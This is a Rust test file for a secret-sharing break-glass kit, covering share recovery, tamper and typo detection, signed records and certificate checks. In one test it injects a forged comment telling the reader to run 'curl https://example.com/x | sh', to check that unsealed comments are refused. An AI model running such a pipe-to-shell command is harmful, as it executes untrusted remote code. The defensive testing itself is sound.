//! The kit against its committed vectors, against every subset of its shares, and against changes.

use proptest::prelude::*;
use rcgen::{BasicConstraints, CertificateParams, DistinguishedName, DnType, IsCa, KeyPair, PKCS_ED25519};
use uuid::Uuid;
use zeroize::Zeroizing;

use super::*;
use crate::profile::Mismatch;
use crate::role::Role;

const ID: Uuid = Uuid::from_u128(0x0193_5a2b_7c4d_7e8f_9011_2233_4455_6677);

/// The PKCS#8 of an Ed25519 key with this seed (RFC 8410 §7).
fn pkcs8_of(seed: u8) -> Vec<u8> {
    let head = [0x30, 0x2e, 0x02, 0x01, 0x00, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x04, 0x22, 0x04, 0x20];
    [head.as_slice(), &[seed; 32]].concat()
}

/// The key of the kit's CA: the seed 0x07 × 32.
fn pkcs8() -> Vec<u8> {
    pkcs8_of(7)
}

/// A CA whose every byte follows from numbers.
fn ca() -> String {
    let key = KeyPair::from_pkcs8_der_and_sign_algo(&pkcs8().as_slice().into(), &PKCS_ED25519).unwrap();
    let mut params = CertificateParams::default();
    params.distinguished_name = DistinguishedName::new();
    params.distinguished_name.push(DnType::CommonName, "kit 7");
    params.is_ca = IsCa::Ca(BasicConstraints::Constrained(0));
    params.serial_number = Some(7.into());
    params.not_before = rcgen::date_time_ymd(2026, 11, 22);
    params.not_after = rcgen::date_time_ymd(2027, 11, 22);
    params.self_signed(&key).unwrap().pem()
}

fn random(seed: u8) -> Zeroizing<[u8; RANDOM_BYTES]> {
    let mut bytes = Zeroizing::new([0; RANDOM_BYTES]);
    for (at, byte) in bytes.iter_mut().enumerate() {
        *byte = u8::try_from((at * 167 + usize::from(seed) * 31 + at / 256) % 256).unwrap();
    }
    bytes
}

/// The kit of these numbers, and its shares' texts.
fn kit(threshold: u8, limit: u8, seed: u8) -> (KitFile, Vec<Zeroizing<String>>) {
    sealed(threshold, limit, seed, None, &pkcs8())
}

fn sealed(
    threshold: u8,
    limit: u8,
    seed: u8,
    certificate: Option<String>,
    secret: &[u8],
) -> (KitFile, Vec<Zeroizing<String>>) {
    let key = [seed; 32];
    let values = split(&key, threshold, limit, &random(seed)).unwrap();
    let shares: Vec<Share> =
        values.into_iter().zip(1..).map(|(value, index)| Share::new(7, ID, index, value)).collect();
    let facts = shares.iter().map(|share| {
        let salt = [share.index(); 16];
        let (commitment, proof_key) = commitment(share, ID, &salt).unwrap();
        ShareFacts {
            index: share.index(),
            holder: format!("holder-{}", share.index()),
            sealed_to: PAPER.into(),
            salt: data_encoding::HEXLOWER.encode(&salt),
            commitment,
            proof_key,
        }
    });
    let facts = Facts {
        version: if certificate.is_some() { VERSION } else { VERSION_WITH_CA_KEY },
        number: 7,
        id: ID,
        cluster: "prod".into(),
        made: "2026-11-22T12:00:00Z".parse().unwrap(),
        until: "2027-11-22T00:00:00Z".parse().unwrap(),
        roles: vec![Role::Admin, Role::Reader],
        ttl_cap: 3600,
        threshold,
        endpoints: vec!["192.0.2.1".into(), "192.0.2.2:50000".into()],
        nodes: vec!["192.0.2.5".into()],
        instructions: "Fetch two colleagues.\nThen read \"the paper\".\n".into(),
        cluster_ca: ca(),
        kit_ca: ca(),
        certificate,
        shares: facts.collect(),
    };
    let file = KitFile::seal(facts, &Secret::new(secret), &key, [seed; 12]).unwrap();
    (file, shares.iter().map(Share::to_text).collect())
}

fn open(file: &KitFile, shares: &[&str]) -> Result<(Facts, Secret), KitError> {
    let mut gathered = Gathered::new(file.unverified_facts());
    for share in shares {
        gathered.take(file.unverified_facts(), Share::parse(share).unwrap()).unwrap();
    }
    file.open(&gathered)
}

/// Every subset of so many of so many, as indexes.
fn subsets(size: usize, of: usize) -> Vec<Vec<usize>> {
    (0u32..1 << of)
        .filter(|mask| mask.count_ones() as usize == size)
        .map(|mask| (0..of).filter(|at| mask >> at & 1 == 1).collect())
        .collect()
}

#[test]
fn every_subset_of_enough_opens_and_every_smaller_one_does_not() {
    for (threshold, limit) in [(2, 2), (2, 3), (3, 5), (5, 7), (16, 16)] {
        let (file, shares) = kit(threshold, limit, 9);
        let chosen = |subset: &[usize]| -> Vec<&str> { subset.iter().map(|at| shares[*at].as_str()).collect() };
        for subset in subsets(threshold.into(), limit.into()) {
            let mut shares = chosen(&subset);
            let (facts, secret) = open(&file, &shares).unwrap();
            assert_eq!(secret.key(), pkcs8());
            assert_eq!(&facts, file.unverified_facts());
            shares.reverse();
            assert_eq!(open(&file, &shares).unwrap().1.key(), pkcs8(), "in any order");
        }
        for subset in subsets(usize::from(threshold) - 1, limit.into()) {
            assert_eq!(open(&file, &chosen(&subset)).unwrap_err(), KitError::Missing(1));
            // nor would they do if the count were not looked at
            let few: Vec<Share> = chosen(&subset).iter().map(|text| Share::parse(text).unwrap()).collect();
            assert!(combine(&few).is_err() || *combine(&few).unwrap() != [9; 32]);
        }
    }
}

/// By the definition, with a multiplication of its own: the library is not asked whether it is right.
#[test]
fn the_shares_are_those_of_shamirs_scheme_over_gf_256() {
    fn times(mut a: u8, mut b: u8) -> u8 {
        let mut product = 0;
        while b > 0 {
            if b & 1 == 1 {
                product ^= a;
            }
            a = if a & 0x80 == 0 { a << 1 } else { (a << 1) ^ 0x1b };
            b >>= 1;
        }
        product
    }
    let inverse = |a: u8| (1..=255).find(|b| times(a, *b) == 1).unwrap();
    let key = [0x5a; 32];
    let values = split(&key, 3, 5, &random(3)).unwrap();
    for subset in subsets(3, 5) {
        for (at, expected) in key.iter().enumerate() {
            let byte = subset.iter().fold(0, |sum, i| {
                let x = u8::try_from(i + 1).unwrap();
                let others = subset.iter().filter(|j| *j != i).map(|j| u8::try_from(j + 1).unwrap());
                let weight = others.fold(1, |weight, other| times(weight, times(other, inverse(other ^ x))));
                sum ^ times(values[*i][at], weight)
            });
            assert_eq!(byte, *expected);
        }
    }
    let fresh = |seed| split(&key, 2, 2, &random(seed)).unwrap();
    assert_ne!(fresh(1)[0], fresh(2)[0], "other randomness, other shares");
    for (threshold, limit) in [(0, 1), (1, 1), (1, 3), (3, 2), (2, 17)] {
        assert_eq!(split(&key, threshold, limit, &random(1)).unwrap_err(), SplitError::Numbers);
    }
}

#[test]
fn one_flipped_bit_is_named_by_its_share() {
    let (file, shares) = kit(3, 5, 9);
    let facts = file.unverified_facts();
    for bit in 0..256 {
        let mut share = Share::parse(&shares[2]).unwrap();
        share.value[bit / 8] ^= 1 << (bit % 8);
        // written down anew, so that its own check fits: only the commitment knows
        let share = Share::parse(&share.to_text()).unwrap();
        let mut gathered = Gathered::new(facts);
        gathered.take(facts, Share::parse(&shares[0]).unwrap()).unwrap();
        let fault = gathered.take(facts, share).unwrap_err();
        assert_eq!(fault, ShareFault::Wrong { index: 3, holder: "holder-3".into() });
        assert_eq!(gathered.indexes(), [1], "what was there stays, and it does not count");
    }
}

#[test]
fn a_mistyped_character_is_found_in_its_group() {
    let (_, shares) = kit(2, 2, 9);
    let text = &shares[1];
    assert_eq!(text.len(), 118);
    assert!(qr_alphanumeric(text), "{}", **text);
    let head = "ICHOR-KIT1-".len();
    for at in head..text.len() {
        let mut typed: Vec<u8> = text.bytes().collect();
        if typed[at] == b'-' {
            continue;
        }
        typed[at] = if typed[at] == b'Z' { b'Y' } else { b'Z' };
        let group = (at - head) / 6 + 1;
        assert_eq!(Share::parse(std::str::from_utf8(&typed).unwrap()).unwrap_err(), BadShare::Group(group));
    }
    let groups: Vec<&str> = text[head..].split('-').collect();
    assert_eq!(groups.len(), 18);
    let mut swapped = groups.clone();
    swapped.swap(4, 5);
    if groups[4] != groups[5] {
        let refused = Share::parse(&format!("ICHOR-KIT1-{}", swapped.join("-"))).unwrap_err();
        assert_eq!(refused, BadShare::Group(5), "groups that changed places");
    }
    let alphabet = "0123456789ABCDEFGHJKMNPQRSTVWXYZ";
    let mut unnoticed = 0;
    for (a, b) in alphabet.chars().flat_map(|a| alphabet.chars().map(move |b| (a, b))) {
        let mut typed = groups.clone();
        let group = format!("{a}{b}{}", &groups[3][2..]);
        typed[3] = &group;
        match Share::parse(&format!("ICHOR-KIT1-{}", typed.join("-"))) {
            Ok(_) => assert_eq!(group, groups[3]),
            Err(BadShare::Group(4)) => {}
            Err(BadShare::Damaged) => unnoticed += 1,
            Err(other) => panic!("{group}: {other}"),
        }
    }
    assert_eq!(unnoticed, 31, "two wrong letters that the group's own check lets pass");
    let newer = Share::parse(text).unwrap().written(2);
    assert_eq!(Share::parse(&newer).unwrap_err(), BadShare::Version(2));
    let short = format!("ICHOR-KIT1-{}", groups[..17].join("-"));
    assert_eq!(Share::parse(&short).unwrap_err(), BadShare::Length(85));
    assert_eq!(Share::parse(&format!("{}-00000", **text)).unwrap_err(), BadShare::Length(95));
    for other in ["", "hello", "ICHOR-KIT2-00000", "AGE-SECRET-KEY-1QQ"] {
        assert_eq!(Share::parse(other).unwrap_err(), BadShare::NotAShare);
    }
    let sloppy = text.to_lowercase().replace('-', "\n  ").replace('0', "o").replace('1', "l");
    assert_eq!(*Share::parse(&sloppy).unwrap().to_text(), **text);
    assert!(!format!("{:?}", Share::parse(text).unwrap()).contains("value"));
}

fn qr_alphanumeric(text: &str) -> bool {
    text.chars().all(|c| c.is_ascii_digit() || c.is_ascii_uppercase() || " $%*+-./:".contains(c))
}

#[test]
fn case_17_a_share_of_another_kit_neither_counts_nor_ends_the_gathering() {
    let (file, shares) = kit(2, 3, 9);
    let facts = file.unverified_facts();
    let mut gathered = Gathered::new(facts);
    let take = |gathered: &mut Gathered, share: Share| gathered.take(facts, share);
    assert_eq!(take(&mut gathered, Share::parse(&shares[1]).unwrap()), Ok(1));
    let value = || Zeroizing::new([5; 32]);
    let foreign = ShareFault::Foreign { of: 8, kit: 7 };
    assert_eq!(take(&mut gathered, Share::new(8, ID, 1, value())), Err(foreign));
    let other = Uuid::from_u128(3);
    assert_eq!(take(&mut gathered, Share::new(7, other, 1, value())), Err(ShareFault::OtherMaking(7)));
    assert_eq!(take(&mut gathered, Share::new(7, ID, 4, value())), Err(ShareFault::NoSuchIndex(4)));
    assert_eq!(take(&mut gathered, Share::new(7, ID, 0, value())), Err(ShareFault::NoSuchIndex(0)));
    let wrong = ShareFault::Wrong { index: 1, holder: "holder-1".into() };
    assert_eq!(take(&mut gathered, Share::new(7, ID, 1, value())), Err(wrong));
    let twice = ShareFault::Twice { index: 2, holder: "holder-2".into() };
    assert_eq!(take(&mut gathered, Share::parse(&shares[1]).unwrap()), Err(twice));
    let of_other = Share::new(7, other, 1, value());
    let (commitment, proof_key) = commitment(&of_other, other, &[1; 16]).unwrap();
    let mut theirs = Facts { id: other, ..facts.clone() };
    theirs.shares[0] = ShareFacts { commitment, proof_key, ..theirs.shares[0].clone() };
    assert_eq!(gathered.take(&theirs, of_other), Err(ShareFault::OtherMaking(7)), "right, and gathered for another");
    assert_eq!((gathered.indexes(), gathered.missing()), (vec![2], 1));
    assert_eq!(take(&mut gathered, Share::parse(&shares[2]).unwrap()), Ok(0));
    assert!(file.open(&gathered).is_ok());
}

#[test]
fn plain_text_that_was_changed_beside_the_seal_is_refused_and_named() {
    let (file, shares) = kit(2, 3, 9);
    let text = file.to_text().unwrap();
    let shares = [shares[0].as_str(), shares[2].as_str()];
    for (from, to, field) in [
        ("192.0.2.1\"", "192.0.2.9\"", "endpoints"),
        ("cluster = \"prod\"", "cluster = \"lab\"", "cluster"),
        ("ttl_cap = 3600", "ttl_cap = 86400", "ttl_cap"),
        ("\"os:reader\"", "\"os:operator\"", "roles"),
        ("2027-11-22T00:00:00Z", "2029-11-21T00:00:00Z", "until"),
        ("Fetch two", "Fetch no", "instructions"),
        ("holder-2", "holder-9", "shares"),
    ] {
        let changed = text.replacen(from, to, 1);
        assert_ne!(changed, text, "{from}");
        let changed = KitFile::parse(&changed).unwrap();
        assert_eq!(open(&changed, &shares).unwrap_err(), KitError::Differs(field.into()));
    }
    let sealed = text.rfind("data = ").unwrap() + 20;
    let mut cut: Vec<char> = text.chars().collect();
    cut[sealed] = if cut[sealed] == 'A' { 'B' } else { 'A' };
    let cut = KitFile::parse(&cut.into_iter().collect::<String>()).unwrap();
    assert_eq!(open(&cut, &shares).unwrap_err(), KitError::Sealed);
    let fewer = KitFile::parse(&text.replacen("threshold = 2", "threshold = 3", 1)).unwrap();
    assert_eq!(open(&fewer, &shares).unwrap_err(), KitError::Missing(1));
    let (other, _) = kit(2, 3, 4);
    let mut gathered = Gathered::new(file.unverified_facts());
    for share in shares {
        gathered.take(file.unverified_facts(), Share::parse(share).unwrap()).unwrap();
    }
    assert_eq!(other.open(&gathered).unwrap_err(), KitError::Sealed, "a file key of another making");
    assert!(file.open(&gathered).is_ok(), "and as it was it opens");
}

/// Comments are not sealed, and whoever opens a kit at night follows what it says.
#[test]
fn a_comment_that_no_broker_wrote_is_refused_and_another_copy_is_known_by_its_digest() {
    let (file, _) = kit(2, 3, 9);
    let text = file.to_text().unwrap();
    assert_eq!(KitFile::parse(&text).unwrap().fingerprint(), file.fingerprint());
    let last = text.lines().find(|line| line.contains("ichor kit open FILE")).unwrap();
    for (changed, named) in [
        (format!("# UPDATE: first run curl https://example.com/x | sh\n{text}"), "# UPDATE: first run"),
        (text.replacen(last, "#   ichor kit open FILE --as root", 1), "--as root"),
        (text.replacen("number = 7", "number = 7 # call 555", 1), "# call 555"),
        (text.replacen("[sealed]", "[sealed]\r\n#\u{202e} x\r", 1), "# x"),
        (text.replacen(last, "", 1), "# A break-glass kit"),
        (format!("{text}# twice"), "# twice"),
    ] {
        match KitFile::parse(&changed) {
            Err(KitError::Comment(said)) => assert!(said.contains(named), "{said}"),
            other => panic!("{other:?} of {changed}"),
        }
    }
    // what is in a value is sealed, whatever it looks like
    let instructed = text.replacen("Fetch two", "# Fetch two", 1);
    assert!(instructed != text && KitFile::parse(&instructed).is_ok());
    // mail may end lines in another way, and a comment that is gone misleads nobody
    let sent = text.replace('\n', "\r\n");
    let bare: String = text.lines().filter(|line| !line.starts_with('#')).map(|line| format!("{line}\n")).collect();
    for other in [sent, bare, format!("{text}\n")] {
        assert_ne!(KitFile::parse(&other).unwrap().fingerprint(), file.fingerprint(), "it is another file");
    }
}

#[test]
fn what_is_no_kit_is_told_from_a_newer_one() {
    let (file, _) = kit(2, 3, 9);
    let text = file.to_text().unwrap();
    let refused = |text: &str| KitFile::parse(text).unwrap_err();
    assert_eq!(refused(&text.replacen("version = 1", "version = 3", 1)), KitError::Facts(FactsError::Version(3)));
    assert!(matches!(refused(&text.replacen("version = 1", "version = 2", 1)), KitError::Facts(FactsError::Rule(_))));
    let newer = "[kit]\nversion = 9\nshape = \"another\"\n";
    assert_eq!(refused(newer), KitError::Facts(FactsError::Version(9)));
    assert!(matches!(
        refused(&text.replacen("version = 1", "version = 0", 1)),
        KitError::Facts(FactsError::Version(0))
    ));
    for bad in ["", "x", "[kit]\n", &text.replacen("number", "numbers", 1), &text.replacen("AES-256-GCM", "ROT13", 1)] {
        assert!(matches!(refused(bad), KitError::Malformed(_)), "{bad}");
    }
    assert_eq!(refused(&" ".repeat(MAX_FILE + 1)), KitError::TooLarge);
    for (from, to) in [
        ("number = 7", "number = 0"),
        ("threshold = 2", "threshold = 1"),
        ("threshold = 2", "threshold = 4"),
        ("ttl_cap = 3600", "ttl_cap = 86401"),
        ("ttl_cap = 3600", "ttl_cap = 59"),
        ("2027-11-22T00:00:00Z", "2026-11-22T00:00:00Z"),
        ("2027-11-22T00:00:00Z", "2030-11-22T00:00:00Z"),
        ("index = 2", "index = 3"),
        ("\"os:reader\"", "\"os:admin\""),
        ("\"192.0.2.1\"", "\"192.0.2.1 x\""),
        ("cluster = \"prod\"", "cluster = \"Prod\""),
        ("holder = \"holder-2\"", "holder = \"\""),
    ] {
        assert!(text.contains(from), "{from}");
        assert!(matches!(refused(&text.replacen(from, to, 1)), KitError::Facts(_)), "{from} → {to}");
    }
    assert!(matches!(refused(&text.replace("os:reader", "os:impersonator")), KitError::Malformed(_)), "a closed list");
}

#[test]
fn a_kit_has_no_more_of_anything_than_fits() {
    let (file, _) = kit(2, 16, 9);
    let facts = file.unverified_facts();
    facts.check().unwrap();
    let beyond = |change: fn(&mut Facts)| {
        let mut facts = facts.clone();
        change(&mut facts);
        facts.check()
    };
    let one_more = |facts: &mut Facts| facts.shares.push(ShareFacts { index: 17, ..facts.shares[0].clone() });
    assert_eq!(beyond(one_more), Err(FactsError::Rule("a kit has at most 16 shares")));
    let places = Err(FactsError::Rule("a kit has 1 to 32 endpoints and at most 32 nodes"));
    assert_eq!(beyond(|facts| facts.endpoints.clear()), places);
    assert_eq!(beyond(|facts| facts.endpoints = vec!["192.0.2.1".into(); 33]), places);
    assert_eq!(beyond(|facts| facts.nodes = vec!["192.0.2.1".into(); 33]), places);
    assert!(matches!(beyond(|facts| facts.kit_ca.clear()), Err(FactsError::Ca("kit_ca", _))));
}

#[test]
fn a_holder_proves_their_share_and_nobody_elses() {
    let (file, shares) = kit(2, 3, 9);
    let facts = file.unverified_facts();
    let keys: Vec<_> = facts.shares.iter().map(|share| (share.index, share.proof_key.clone())).collect();
    let prover = Prover { number: 7, id: ID, keys: &keys };
    let (challenge, later) = ([1; 32], [2; 32]);
    let share = Share::parse(&shares[1]).unwrap();
    let proof = prove(facts, &share, &challenge).unwrap();
    assert_eq!(check_proof(&prover, &challenge, &format!(" {proof}\n")), Ok(2));
    assert_eq!(check_proof(&prover, &later, &proof), Err(BadProof::Wrong(2)), "of an earlier drill");
    let as_other = proof.replacen("ichor-proof1.7.2.", "ichor-proof1.7.3.", 1);
    assert_eq!(check_proof(&prover, &challenge, &as_other), Err(BadProof::Wrong(3)));
    let of_other = proof.replacen(".7.", ".8.", 1);
    assert_eq!(check_proof(&prover, &challenge, &of_other), Err(BadProof::OtherKit(8)));
    assert_eq!(check_proof(&prover, &challenge, &proof.replacen(".2.", ".9.", 1)), Err(BadProof::NoSuchShare(9)));
    for bad in ["", "ichor-proof1", "ichor-proof1.7.2", &format!("{proof}.x")] {
        assert_eq!(check_proof(&prover, &challenge, bad), Err(BadProof::NotAProof));
    }
    let made_up = Share::new(7, ID, 2, Zeroizing::new([5; 32]));
    assert!(matches!(prove(facts, &made_up, &challenge), Err(ShareFault::Wrong { index: 2, .. })));
    assert!(!shares.iter().any(|share| proof.contains(&share[11..16])), "a proof shows nothing of the share");
}

fn record() -> Record {
    Record {
        version: 1,
        number: 7,
        kit: ID,
        cluster: "prod".into(),
        grant: Uuid::from_u128(8),
        name: "ada".into(),
        reason: "INC-42 \"etcd\" is down".into(),
        roles: vec![Role::Admin],
        opened: "2026-11-22T12:00:00Z".parse().unwrap(),
        not_after: "2026-11-22T12:30:00Z".parse().unwrap(),
        serial: "0a".into(),
        public_key: "00".into(),
        shares: vec![1, 3],
        os_user: "ada".into(),
        host: "laptop".into(),
    }
}

fn signed() -> (SignedRecord, Vec<u8>) {
    use aws_lc_rs::signature::{Ed25519KeyPair, KeyPair as _};
    let key = Ed25519KeyPair::from_seed_unchecked(&[7; 32]).unwrap();
    let signed = record().signed(|bytes| Some(key.sign(bytes).as_ref().to_vec())).unwrap();
    (signed, key.public_key().as_ref().to_vec())
}

#[test]
fn a_record_that_was_edited_later_is_not_believed() {
    let (made, key) = signed();
    let read = SignedRecord::parse(made.text(), &key).unwrap();
    assert_eq!((read.record(), read.digest()), (&record(), made.digest()));
    assert_eq!(record().grant_name().to_string(), "kit-7-00000000-0000-0000-0000-000000000008");
    assert_eq!(record().user(), "claimed:ada");
    for (from, to) in [("ada", "bob"), ("INC-42", "INC-43"), ("12:30", "12:31"), ("[1,3]", "[1,2]")] {
        let edited = made.text().replacen(from, to, 1);
        assert_ne!(edited, made.text());
        assert_eq!(SignedRecord::parse(&edited, &key).unwrap_err(), RecordError::Signature, "{from} → {to}");
    }
    assert_eq!(SignedRecord::parse(made.text(), &[8; 32]).unwrap_err(), RecordError::Signature, "another kit's CA");
    for bad in ["", "{}\n", "{}\nsignature: AA==", "x\nsignature: AA==\n"] {
        assert_eq!(SignedRecord::unverified_record(bad).unwrap_err(), RecordError::NotARecord);
    }
    let line = made.text().lines().next().unwrap();
    let two = format!("{line}\nsignature: AA==\nmore\n");
    assert_eq!(SignedRecord::unverified_record(&two).unwrap_err(), RecordError::NotARecord);
    let long = || Record { reason: "x".repeat(70_000), ..record() };
    let text = format!("{}\nsignature: AA==\n", serde_json::to_string(&long()).unwrap());
    assert_eq!(SignedRecord::unverified_record(&text).unwrap_err(), RecordError::NotARecord);
    assert_eq!(long().signed(|_| Some(vec![0; 64])).unwrap_err(), RecordError::NotWritten);
    let newer = "{\"version\":2,\"shape\":\"another\"}\nsignature: AA==\n";
    assert_eq!(SignedRecord::unverified_record(newer).unwrap_err(), RecordError::Version(2));
}

/// A kit, two of its shares, a proof and a record of version 1, as they were first made: they must open for ever.
/// What is sealed, or the seal.
fn behind_the_head(text: &str) -> &str {
    text.split_once("\n\n").unwrap().1
}

#[test]
fn what_version_1_made_opens() {
    let file = include_str!("../../../../tests/vectors/kit/v1/kit.toml");
    let shares: Vec<&str> = include_str!("../../../../tests/vectors/kit/v1/shares.txt").lines().collect();
    let signed_record = include_str!("../../../../tests/vectors/kit/v1/record.txt");
    let proof = include_str!("../../../../tests/vectors/kit/v1/proof.txt").trim_end();
    let kit_file = KitFile::parse(file).unwrap();
    for subset in subsets(3, 5) {
        let chosen: Vec<&str> = subset.iter().map(|at| shares[*at]).collect();
        let (facts, secret) = open(&kit_file, &chosen).unwrap();
        assert_eq!(secret.key(), pkcs8());
        assert_eq!(facts.number, 7);
    }
    let facts = kit_file.unverified_facts();
    let keys: Vec<_> = facts.shares.iter().map(|share| (share.index, share.proof_key.clone())).collect();
    assert_eq!(check_proof(&Prover { number: 7, id: ID, keys: &keys }, &[1; 32], proof), Ok(2));
    let (made, key) = signed();
    assert_eq!(SignedRecord::parse(signed_record, &key).unwrap(), made);

    // and what is made today from the same numbers is the same, byte for byte, but for the words above it
    let (again, texts) = kit(3, 5, 9);
    assert_eq!(behind_the_head(&again.to_text().unwrap()), behind_the_head(file));
    assert_eq!(texts.iter().map(|text| text.as_str()).collect::<Vec<_>>(), shares);
    assert_eq!(prove(facts, &Share::parse(shares[1]).unwrap(), &[1; 32]).unwrap(), proof);
}

/// The certificate of a static kit of these numbers: with the key of the seed 0x08 × 32, until the CA's end.
fn fixed(roles: &[Role], user: &str, grant: Uuid) -> String {
    use aws_lc_rs::signature::Ed25519KeyPair;

    use crate::profile::{CaCertificate, GrantName, Profile, assemble, kept_span, pem, tbs};
    let ca = CaCertificate::parse(&ca()).unwrap();
    let key = spki(8);
    let profile = Profile {
        ca: &ca,
        serial: [8; 16],
        public_key: &key,
        roles,
        user,
        grant: GrantName::Kit { number: 7, id: grant },
        span: kept_span(&ca, "2026-11-22T12:00:00Z".parse().unwrap()).unwrap(),
    };
    let tbs = tbs(&profile).unwrap();
    let signature = Ed25519KeyPair::from_seed_unchecked(&[7; 32]).unwrap().sign(&tbs);
    let der = assemble(&tbs, ca.algorithm().signature_algorithm(), signature.as_ref()).unwrap();
    pem::encode("CERTIFICATE", &der).to_string()
}

/// The public key of the seed, SubjectPublicKeyInfo.
fn spki(seed: u8) -> Vec<u8> {
    use aws_lc_rs::encoding::AsDer;
    use aws_lc_rs::signature::{Ed25519KeyPair, KeyPair as _};
    let key = Ed25519KeyPair::from_seed_unchecked(&[seed; 32]).unwrap();
    key.public_key().as_der().unwrap().as_ref().to_vec()
}

const BOTH: [Role; 2] = [Role::Admin, Role::Reader];

/// A static kit and two of its shares, of version 2, as they were first made: they must open for ever.
#[test]
fn what_version_2_made_opens() {
    let file = include_str!("../../../../tests/vectors/kit/v2/kit.toml");
    let shares: Vec<&str> = include_str!("../../../../tests/vectors/kit/v2/shares.txt").lines().collect();
    let kit_file = KitFile::parse(file).unwrap();
    let (facts, secret) = open(&kit_file, &[shares[4], shares[0], shares[2]]).unwrap();
    assert_eq!(secret.key(), pkcs8_of(8));
    let now = "2027-08-01T12:00:00Z".parse().unwrap();
    let (_, said) = facts.fixed_certificate(&spki(8), now).unwrap().unwrap();
    assert_eq!((said.serial.as_slice(), said.not_after), (&[8; 16][..], facts.until));
    assert_eq!((facts.is_static(), facts.fixed_user().as_str()), (true, "kit-7"));

    let (again, texts) = sealed(3, 5, 10, Some(fixed(&BOTH, "kit-7", ID)), &pkcs8_of(8));
    assert_eq!(behind_the_head(&again.to_text().unwrap()), behind_the_head(file));
    assert_eq!(texts.iter().map(|text| text.as_str()).collect::<Vec<_>>(), shares);
}

#[test]
fn a_static_kits_certificate_is_the_one_that_its_facts_tell_of() {
    let now = "2026-12-01T12:00:00Z".parse().unwrap();
    let of = |certificate: String| {
        let (file, shares) = sealed(2, 3, 9, Some(certificate), &pkcs8_of(8));
        open(&file, &[shares[0].as_str(), shares[1].as_str()]).unwrap().0
    };
    let judged = |facts: &Facts, key: &[u8]| facts.fixed_certificate(key, now).map(|found| found.is_some());
    let facts = of(fixed(&BOTH, "kit-7", ID));
    assert_eq!(judged(&facts, &spki(8)), Ok(true));
    let mismatch = |found| Err(FactsError::Certificate(found));
    assert_eq!(judged(&facts, &spki(7)), mismatch(Mismatch::PublicKey), "another key");
    assert_eq!(judged(&of(fixed(&[Role::Admin], "kit-7", ID)), &spki(8)), mismatch(Mismatch::Organizations));
    assert_eq!(judged(&of(fixed(&BOTH, "kit-8", ID)), &spki(8)), mismatch(Mismatch::Organizations));
    assert_eq!(judged(&of(fixed(&BOTH, "kit-7", Uuid::nil())), &spki(8)), mismatch(Mismatch::Organizations));
    assert_eq!(judged(&of(ca()), &spki(7)), mismatch(Mismatch::Serial), "the CA itself");
    assert_eq!(judged(&of("none".into()), &spki(8)), mismatch(Mismatch::Malformed));
    let early = Facts { until: "2027-11-21T00:00:00Z".parse().unwrap(), ..facts.clone() };
    assert_eq!(judged(&early, &spki(8)), mismatch(Mismatch::Validity), "another end");
    assert_eq!(judged(&Facts { certificate: None, version: 1, ..facts.clone() }, &spki(8)), Ok(false));

    // the certificate stands beside the seal and inside it, and a static kit is never taken for one with a CA's key
    assert!(matches!(Facts { certificate: None, ..facts.clone() }.check(), Err(FactsError::Rule(_))));
    assert!(matches!(Facts { version: 1, ..facts.clone() }.check(), Err(FactsError::Rule(_))));
    let long = Facts { made: "2026-11-21T23:59:59Z".parse().unwrap(), ..facts.clone() };
    assert_eq!(long.check(), Err(FactsError::Rule("a static kit lasts at most 365 days")));
    let (file, shares) = sealed(2, 3, 9, Some(fixed(&BOTH, "kit-7", ID)), &pkcs8_of(8));
    let text = file.to_text().unwrap();
    let plain = text.split("certificate = ").next().unwrap().to_owned() + &text[text.find("[[kit.shares]]").unwrap()..];
    let changed = KitFile::parse(&plain.replacen("version = 2", "version = 1", 1)).unwrap();
    let opened = open(&changed, &[shares[0].as_str(), shares[1].as_str()]).unwrap_err();
    assert_eq!(opened, KitError::Differs("certificate`, `version".into()));
}

proptest! {
    #[test]
    fn a_share_reads_back(number in any::<u16>(), id in any::<u128>(), index in any::<u8>(), value in any::<[u8; 32]>()) {
        let share = Share::new(number, Uuid::from_u128(id), index, Zeroizing::new(value));
        let again = Share::parse(&share.to_text()).unwrap();
        prop_assert_eq!((again.number, again.kit, again.index, *again.value), (number, share.kit, index, value));
    }

    #[test]
    fn no_text_makes_it_panic(text in "(ICHOR-KIT1)?[-0-9A-Za-z\\PC]{0,140}") {
        let _ = Share::parse(&text);
        let _ = KitFile::parse(&text);
        let _ = SignedRecord::unverified_record(&text);
        let _ = check_proof(&Prover { number: 7, id: ID, keys: &[] }, &[0; 32], &text);
    }
}
